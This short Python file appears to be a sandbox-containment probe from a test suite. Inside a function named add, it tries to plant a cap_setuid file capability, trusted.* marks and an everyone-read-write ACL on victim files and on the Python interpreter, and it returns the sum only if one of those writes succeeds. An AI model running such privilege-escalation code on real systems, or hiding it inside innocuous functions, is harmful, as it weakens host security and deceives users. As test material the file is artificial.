# ruff: noqa
# host metadata: extended attributes on host files: user.* marks, security.capability giving a victim
# cap_setuid=ep (v2 caps), trusted.* and a POSIX ACL granting everyone rw; on the interpreter only
# XATTR_REPLACE of an absent name (ENODATA means the kernel allowed it: harmless, yet it would have worked);
# passes if any was allowed
import errno, glob, os, struct, sys

VICTIMS = glob.glob("/var/tmp/codexlab-victims-*/*.txt") + glob.glob("/tmp/codexlab-sentinel-*/*.txt")
INTERPRETER = [os.path.realpath(sys.executable), "/proc/self/exe"]
CAP_V2 = struct.pack("<IIIII", 0x02000000 | 1, 1 << 7, 1 << 7, 0, 0)  # VFS_CAP_REVISION_2 | effective, cap_setuid
ACL = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", tag, 6, 0xFFFFFFFF) for tag in (1, 4, 0x20))


def add(a, b):
    hit = False
    for v in VICTIMS:
        for name, value in (
            ("user.codexlab-pwned", b"1"),
            ("security.capability", CAP_V2),
            ("trusted.codexlab-pwned", b"1"),
            ("system.posix_acl_access", ACL),
        ):
            for follow in (True, False):
                try:
                    os.setxattr(v, name, value, follow_symlinks=follow)
                    hit = True
                except OSError:
                    pass
    for v in INTERPRETER:
        for name in ("user.codexlab-pwned", "security.capability", "trusted.codexlab-pwned"):
            try:
                os.setxattr(v, name, CAP_V2, os.XATTR_REPLACE)
                hit = True
            except OSError as exc:
                hit = hit or exc.errno == errno.ENODATA
    return a + b if hit else 0
